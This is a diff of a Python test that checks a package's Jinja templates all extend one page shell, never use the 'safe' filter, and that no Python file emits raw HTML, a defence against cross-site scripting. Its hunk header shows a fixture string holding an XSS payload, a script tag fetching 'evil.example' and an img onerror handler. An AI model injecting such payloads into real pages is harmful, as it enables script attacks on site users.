@@ -117,13 +117,16 @@ EVIL = "<script>fetch('http://evil.example')</script><img src=x onerror=alert(1)
 
 def test_every_page_is_of_the_one_shell() -> None:
     """So that every page has its policy; and none marks what it is given as markup."""
-    templates = [path for path in PACKAGE.rglob("*.html") if path.name not in ("page.html", "parts.html")]
-    assert {path.name for path in templates} >= {"report.html", "inspection.html"}
+    parts = {"parts.html", "answers.html"}  # macros, which are no pages
+    templates = [path for path in PACKAGE.rglob("*.html") if path.name != "page.html"]
+    assert {path.name for path in templates} >= {"report.html", "inspection.html", *parts}
     environment = Environment(loader=FileSystemLoader(HERE), autoescape=True)
     for path in templates:
         tree = environment.parse(path.read_text(encoding="utf-8"))
-        [parent] = tree.find_all(nodes.Extends)
-        assert isinstance(parent.template, nodes.Const) and parent.template.value == "page.html", path
+        parents = [parent.template for parent in tree.find_all(nodes.Extends)]
+        assert [parent.value for parent in parents if isinstance(parent, nodes.Const)] == (
+            [] if path.name in parts else ["page.html"]
+        ), path
         assert "safe" not in {used.name for used in tree.find_all(nodes.Filter)}, path
     writers = [path for path in PACKAGE.rglob("*.py") if "<html" in path.read_text(encoding="utf-8")]
     assert writers == []
